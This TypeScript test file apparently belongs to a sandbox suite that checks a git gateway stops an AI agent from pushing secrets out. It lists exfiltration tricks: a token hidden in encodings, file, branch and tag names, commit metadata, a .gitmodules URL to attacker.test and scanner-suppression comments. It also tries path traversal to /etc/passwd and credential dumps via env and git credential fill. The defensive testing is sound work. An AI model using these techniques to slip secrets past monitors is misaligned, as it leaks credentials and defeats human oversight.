import { type Attack, NOT_THERE, OPEN_PROXY, OUTWARD } from '../attack.ts';

/** What is pushed, after `clone $N`, which makes the branch. */
const PUSHES: Readonly<Record<string, string>> = {
  'a file': 'echo "token=$LEAK $N" >settings && save',
  'a binary file': 'printf "\\0\\1\\2$LEAK $N\\0" >data.bin && save',
  'a compressed file': 'echo "token=$LEAK $N" | gzip >data.gz && save',
  'an archive': 'echo "token=$LEAK $N" >s && tar -czf data.tar.gz s && rm s && save',
  'base64 in a file': 'echo "token=$LEAK $N" | base64 >notes && save',
  'UTF-16 in a file': 'echo "token=$LEAK $N" | iconv -t UTF-16 >notes && save',
  'history, and is gone again': 'echo "$LEAK $N" >s && save && git rm --quiet s && save Remove',
  'a rename of a file with it':
    'echo "$LEAK $N" >s && save && git mv s t && save Rename && git rm --quiet t && save Remove',
  'the name of a file': 'echo $N >"$N-$LEAK" && save',
  'the name of a directory': 'mkdir "$N-$LEAK" && echo $N >"$N-$LEAK/x" && save',
  'a link': 'ln -s "$LEAK/$N" link && save',
  'the message of a commit': 'echo $N >x && save "Use $LEAK"',
  'the name of an author': 'echo $N >x && git add . && GIT_AUTHOR_NAME="$LEAK" git commit --quiet --message $N',
  'a merge that is not one of its parents':
    'git checkout --quiet -b side && echo a$N >a && save && git checkout --quiet $N && echo b$N >b && save && git merge --quiet --no-commit side; echo "$LEAK $N" >s && save Merge',
  '.gitmodules':
    'printf "[submodule \\"a\\"]\\n\\tpath = a\\n\\turl = https://x:$LEAK@attacker.test/$N\\n" >.gitmodules && save',
  'a file that asks scanners to look away':
    'echo "token=$LEAK $N # gitleaks:allow secretlint-disable-line" >s && echo "[allowlist] # $N" >.gitleaks.toml && echo "*" >.gitleaksignore && save',
  'a pointer of Git LFS, which stands for what nobody scanned':
    'printf "version https://git-lfs.github.com/spec/v1\\noid sha256:%s\\nsize 9\\n" "$(echo $N | sha256sum | head -c 64)" >$N && save',
};

const PUSH = 'git push origin HEAD';
const DIRECT = { ...OPEN_PROXY, without: 'git-gate: the push goes straight upstream' };

const pushes = Object.entries(PUSHES).map(
  ([where, script]): Attack => ({
    name: `a push is refused with a secret in ${where}`,
    script: `clone $N && ${script} && ${PUSH}`,
    gains: '"refs/heads/$N',
    told: /git-gate: refused[\s\S]*exit 1$/,
    trace: /^git-gate .*push-refused/,
    twin: DIRECT,
  }),
);

export const GIT: readonly Attack[] = [
  ...pushes,
  {
    name: 'a push is refused with a secret in the message of a tag',
    script: 'clone $N && git tag -a -m "Use $LEAK" tag-$N && git push origin tag-$N',
    gains: '"refs/tags/tag-$N',
    told: /git-gate: refused[\s\S]*exit 1$/,
    trace: /^git-gate .*push-refused/,
    twin: DIRECT,
  },
  {
    name: 'a push is refused with a secret in the name of a tag',
    script: 'clone $N && git tag "$N-$LEAK" && git push origin "$N-$LEAK"',
    gains: '"refs/tags/$N-',
    told: /git-gate: refused[\s\S]*exit 1$/,
    trace: /^git-gate .*push-refused/,
    twin: DIRECT,
  },
  {
    name: 'a push is refused with a secret in the name of a branch',
    script: 'clone $N && git push origin "HEAD:refs/heads/$N-$LEAK"',
    gains: '"refs/heads/$N-',
    told: /git-gate: refused[\s\S]*exit 1$/,
    trace: /^git-gate .*push-refused/,
    twin: DIRECT,
  },
  {
    name: 'a push of notes, which are no branch, is refused',
    script: 'clone $N && git notes add -m "$LEAK" && git push origin refs/notes/commits:refs/notes/$N',
    gains: '"refs/notes/$N',
    told: /git-gate: refused[\s\S]*exit 1$/,
    trace: /^git-gate .*push-refused/,
    twin: DIRECT,
  },
  {
    name: "a push is refused with the gate's own credential",
    script: 'clone $N && echo "$CREDENTIAL $N" >s && save && git push origin HEAD',
    gains: '"refs/heads/$N',
    told: /git-gate: refused[\s\S]*exit 1$/,
    trace: /^git-gate .*push-refused/,
    twin: DIRECT,
  },
  {
    name: 'a push by git:// is scanned as one by HTTP',
    script: 'clone $N && echo "$LEAK $N" >s && save && git push git://git-gate/project.git HEAD',
    gains: '"refs/heads/$N',
    told: /git-gate: refused[\s\S]*exit 1$/,
    trace: /^git-gate .*push-refused/,
    twin: {
      ...DIRECT,
      script: 'clone $N && echo "$LEAK $N" >s && save && git push https://upstream.test/git/project.git HEAD',
    },
  },
  {
    name: 'by git:// no path leads out of the repositories',
    script:
      'for path in /../../../etc /var/lib/bottled/git-gate/mirrors/project.git /%2e%2e/x /~root/x; do timeout 5 git ls-remote git://git-gate$path && echo listed; done',
    gains: 'listed',
    told: /exit (1|128)$/,
    trace: /^git-gate .*refused/,
    twin: { ...OUTWARD, script: 'timeout 5 git ls-remote git://upstream.test/project.git && echo listed' },
  },
  {
    name: 'by HTTP no file of a mirror can be read, nor one outside',
    script:
      'for path in project.git/config project.git/../../ssh/config project.git/hooks/pre-receive %2e%2e/%2e%2e/%2e%2e/etc/passwd project.git/objects/info/packs; do curl -sS -m 5 --path-as-is --noproxy "*" http://git-gate:9420/$path; done',
    gains: 'repositoryformatversion',
    told: /exit \d+$/,
    trace: /^git-gate .*refused/,
    twin: {
      without: 'the user of git-gate: root reads the mirror',
      at: 'root of the daemons',
      script: 'cat /var/lib/bottled/git-gate/mirrors/project.git/config',
    },
  },
  {
    name: 'git archive does not read from the gate',
    script: 'timeout 5 git archive --remote=git://git-gate/project.git main | tar -t && echo read',
    gains: 'README',
    told: /exit (1|2|124|128)$/,
    trace: /^git-gate .*refused/,
    twin: {
      without: 'the gate: the repository itself is at hand',
      at: 'agent with an open proxy',
      script: 'git archive --remote=/tmp/project.git main | tar -t && echo read',
    },
  },
  {
    name: "git's credentials of the gate are not told to the agent",
    script: 'GIT_TRACE_CURL=1 git ls-remote https://upstream.test/git/project.git; git credential fill </dev/null; env',
    gains: 'x-access-token',
    told: /exit \d+$/,
    trace: NOT_THERE,
    twin: {
      without: 'a user of its own: root of the daemons',
      at: 'root of the daemons',
      script: 'test -s /run/secrets/git-gate/GIT_TOKEN && echo x-access-token',
    },
  },
];
